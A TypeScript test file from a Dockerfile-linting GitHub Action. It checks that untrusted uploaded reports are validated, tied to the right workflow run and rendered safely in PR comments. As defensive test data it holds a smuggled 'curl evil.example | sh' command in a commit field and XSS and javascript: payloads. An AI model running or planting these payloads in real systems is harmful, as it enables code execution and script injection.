/**
 * What `mode: publish-report` does with a report it did not make, before anything reaches GitHub: the
 * size cap, the schema, the run check, and the LintReport rebuilt for the comment renderer.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { WorkflowRunPlan } from '../../src/action/event.js';
import { nodeFileSystem } from '../../src/action/runner.js';
import { checkReportMatchesRun, inferFailOn, InvalidReportError, lintReportFromJson, parseUntrustedReport, REPORT_MAX_BYTES } from '../../src/action/untrusted-report.js';
import type { FailOn } from '../../src/lint/config.js';
import type { Finding } from '../../src/lint/types.js';
import { renderComment, type CommentOptions } from '../../src/report/comment.js';
import { renderJson, type JsonReport } from '../../src/report/json.js';
import type { FileReport, LintReport } from '../../src/report/types.js';
import type { DockerfileChange, ReviewContext } from '../../src/review/types.js';
import { renderHtml, textOf } from '../report/render-html.js';
import { finding } from '../report/make-report.js';

const HEAD_SHA = '1111111111111111111111111111111111111111';
const MERGE_SHA = '2222222222222222222222222222222222222222';
const BASE_SHA = '3333333333333333333333333333333333333333';

const RUN: WorkflowRunPlan = { runId: 77, headSha: HEAD_SHA, event: 'pull_request', conclusion: 'failure', url: 'https://github.com/acme/shop/actions/runs/77' };

const REVIEW: ReviewContext = {
  event: 'pull_request',
  base: { sha: BASE_SHA, ref: 'main' },
  head: { sha: MERGE_SHA, ref: 'refs/pull/7/merge' },
  pullRequest: { number: 7, url: 'https://github.com/acme/shop/pull/7', headSha: HEAD_SHA },
  changedOnly: true,
  failOnScope: 'new',
};

const OPTIONS: CommentOptions = {
  key: 'default',
  docsBase: 'https://github.com/stagecraft-dev/stagecraft/blob/v1',
  lineUrl: (path, line) => `https://github.com/acme/shop/blob/${MERGE_SHA}/${path}#L${line}`,
  failOn: null,
  version: '0.1.0',
  runUrl: RUN.url,
};

function reviewed(path: string, change: Omit<DockerfileChange, 'path'>, fresh: Finding[], existing: Finding[], fixed: Finding[], failOn: FailOn = 'error'): FileReport {
  const findings = [...fresh, ...existing].sort((a, b) => a.line - b.line);
  return { path, findings, failOn, review: { change: { path, ...change }, newFindings: fresh, existingFindings: existing, fixedFindings: fixed, baseDockerfile: null } };
}

/** A pull request review as the lint run reports it: a modified file (new, existing, fixed findings), an added one, a removed one. */
function lintRunReport(failOn: FailOn = 'error'): LintReport {
  return {
    errors: [],
    review: REVIEW,
    files: [
      reviewed(
        'services/api/Dockerfile',
        { status: 'modified', basePath: 'services/api/Dockerfile', because: [] },
        [finding({ rule: 'sudo-in-run', severity: 'error', line: 4, message: 'Do not use `sudo`' }), finding({ rule: 'copy-from-undefined-stage', aliases: ['DL3022'], line: 6, stage: 'final' })],
        [finding({ line: 1, stage: 'build' })],
        [finding({ rule: 'base-image-untagged', line: 1, message: 'Pin `alpine`' })],
        failOn,
      ),
      reviewed('worker/Dockerfile', { status: 'added', basePath: null, because: [] }, [finding({ rule: 'consecutive-run-instructions', severity: 'info', line: 3, stage: 0 })], [], [], failOn),
      reviewed('legacy/Dockerfile', { status: 'removed', basePath: 'legacy/Dockerfile', because: [] }, [], [], [finding({ rule: 'sudo-in-run', severity: 'error', line: 2 })], failOn),
    ],
  };
}

function invalidReason(text: string): string {
  try {
    parseUntrustedReport(text);
  } catch (err) {
    if (err instanceof InvalidReportError) return err.message;
    throw err;
  }
  throw new Error('expected an InvalidReportError');
}

describe('parseUntrustedReport', () => {
  it('takes the report a lint run writes, as it wrote it', () => {
    const text = renderJson(lintRunReport());
    expect(parseUntrustedReport(text)).toEqual(JSON.parse(text));
  });

  it.each([
    ['text that is not JSON', '<html>oops</html>', 'it is not JSON'],
    ['a JSON list', '[]', 'at the top level, must be object'],
    ['a version this publisher does not know', JSON.stringify({ ...JSON.parse(renderJson(lintRunReport())), version: 3 }), 'at /version, must be equal to constant'],
  ])('refuses %s, saying why', (_what, text, says) => {
    expect(invalidReason(text)).toContain(says);
  });

  it('refuses a property the schema does not list, and a string over its cap, naming where', () => {
    const document = JSON.parse(renderJson(lintRunReport())) as JsonReport & { files: { findings: Record<string, unknown>[] }[] };
    document.files[0]!.findings[0]!.html = '<img src=x onerror=alert(1)>';
    expect(invalidReason(JSON.stringify(document))).toBe('it does not match docs/schema/report.schema.json: at /files/0/findings/0, must NOT have additional properties');
    delete document.files[0]!.findings[0]!.html;
    document.files[0]!.findings[0]!.stage = 'x'.repeat(1025);
    expect(invalidReason(JSON.stringify(document))).toMatch(/^it does not match docs\/schema\/report\.schema\.json: at \/files\/0\/findings\/0\/stage, /);
  });

  it('refuses a review whose pull request head is not a commit id', () => {
    const document = JSON.parse(renderJson(lintRunReport())) as { review: { pullRequest: { headSha: string } } };
    document.review.pullRequest.headSha = 'main; curl evil.example | sh';
    expect(invalidReason(JSON.stringify(document))).toContain('at /review/pullRequest');
  });
});

describe('checkReportMatchesRun', () => {
  const valid = () => parseUntrustedReport(renderJson(lintRunReport()));

  it('accepts the review of the pull request head the workflow run was for', () => {
    expect(checkReportMatchesRun(valid(), RUN).review.pullRequest).toEqual({ number: 7, url: 'https://github.com/acme/shop/pull/7', headSha: HEAD_SHA });
  });

  it.each([
    ['about another commit', { ...RUN, headSha: 'f'.repeat(40) }, (r: JsonReport) => r, `it is about commit ${HEAD_SHA.slice(0, 12)}, but the workflow run that uploaded it was for ffffffffffff`],
    ['a plain lint (no review)', RUN, ({ review: _review, ...r }: JsonReport) => r as JsonReport, 'it is not the review of a pull request'],
    ['a merge group review (no pull request)', RUN, (r: JsonReport) => ({ ...r, review: { ...r.review!, pullRequest: null } }), 'it is not the review of a pull request'],
    ['a report without the head sha (an older Stagecraft)', RUN, (r: JsonReport) => ({ ...r, review: { ...r.review!, pullRequest: { number: 7, url: null } } }), 'does not name the pull request\'s head commit'],
  ])('refuses a report %s', (_what, run, change, says) => {
    expect(() => checkReportMatchesRun(change(valid()), run)).toThrow(InvalidReportError);
    expect(() => checkReportMatchesRun(change(valid()), run)).toThrow(says);
  });
});

describe('lintReportFromJson', () => {
  it('rebuilds what the comment shows: the same comment as the lint run would post, stage graphs aside', () => {
    const original = lintRunReport();
    const rebuilt = lintReportFromJson(parseUntrustedReport(renderJson(original)), 'error');
    expect(renderComment(rebuilt, OPTIONS)).toBe(renderComment(original, OPTIONS));
    expect(rebuilt.review).toEqual(REVIEW);
    expect(rebuilt.files.map((f) => [f.path, f.review?.newFindings.length, f.review?.existingFindings.length, f.review?.fixedFindings.length])).toEqual([
      ['services/api/Dockerfile', 2, 1, 1],
      ['worker/Dockerfile', 1, 0, 0],
      ['legacy/Dockerfile', 0, 0, 1],
    ]);
  });

  it('a plain lint has no review: every finding is judged', () => {
    const { review: _review, ...plain } = lintRunReport();
    const rebuilt = lintReportFromJson(parseUntrustedReport(renderJson({ ...plain, files: plain.files.map(({ review: _r, ...f }) => f) })), 'warning');
    expect(rebuilt.review).toBeUndefined();
    expect(rebuilt.files.every((f) => f.review === undefined && f.failOn === 'warning')).toBe(true);
  });

  it('keeps hostile stage names and messages inert in the comment: no HTML, no mention, no second marker', () => {
    const hostile = '<img src=x onerror=alert(1)> @octocat <!-- stagecraft:report key=default -->';
    const report = lintRunReport();
    report.files[1]!.findings[0]!.stage = hostile;
    report.files[1]!.findings[0]!.message = `${hostile} | ](javascript:alert(1))`;
    const body = renderComment(lintReportFromJson(parseUntrustedReport(renderJson(report)), 'error'), OPTIONS);
    const html = renderHtml(body);
    expect(html).not.toMatch(/<img\b/i);
    expect(body.split('<!-- stagecraft:report').length - 1).toBe(1);
    expect(textOf(html.replace(/<(code|pre|a)\b[^>]*>[\s\S]*?<\/\1>/gi, ''))).not.toMatch(/(^|[^\w`])@octocat\b/);
    expect(html).not.toContain('href="javascript:');
  });
});

describe('inferFailOn', () => {
  const json = (failOn: FailOn) => parseUntrustedReport(renderJson(lintRunReport(failOn)));

  it.each(['error', 'warning', 'info'] as const)('finds the threshold the lint run judged by (%s) from summary.failing', (failOn) => {
    const report = json(failOn);
    const inferred = inferFailOn(report, null);
    // Thresholds that fail the same findings are as good as each other: the verdict is the lint run's.
    expect(inferred).not.toBeNull();
    expect(lintReportFromJson(report, inferred!).files.map((f) => f.failOn)).toEqual(report.files.map(() => inferred));
    const failing = (t: FailOn) => renderComment(lintReportFromJson(report, t), OPTIONS);
    expect(failing(inferred!)).toBe(failing(failOn));
  });

  it('takes the fail-on input when the publishing step sets one', () => {
    expect(inferFailOn(json('error'), 'style')).toBe('style');
  });

  it('is null when no one threshold gives the count (files with different fail-on)', () => {
    const report = json('error');
    expect(inferFailOn({ ...report, summary: { ...report.summary, failing: 99 } }, null)).toBeNull();
  });
});

describe('reading the file (nodeFileSystem.readTextUpTo)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'stagecraft-untrusted-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('reads a file up to the cap, and only sizes a larger one', () => {
    const small = join(dir, 'small.json');
    writeFileSync(small, '{"a":1}');
    expect(nodeFileSystem.readTextUpTo(small, 7)).toEqual({ text: '{"a":1}' });
    expect(nodeFileSystem.readTextUpTo(small, 6)).toEqual({ size: 7 });
    expect(nodeFileSystem.readTextUpTo(join(dir, 'missing.json'), 7)).toBeNull();
    expect(REPORT_MAX_BYTES).toBe(8 * 1024 * 1024);
  });
});
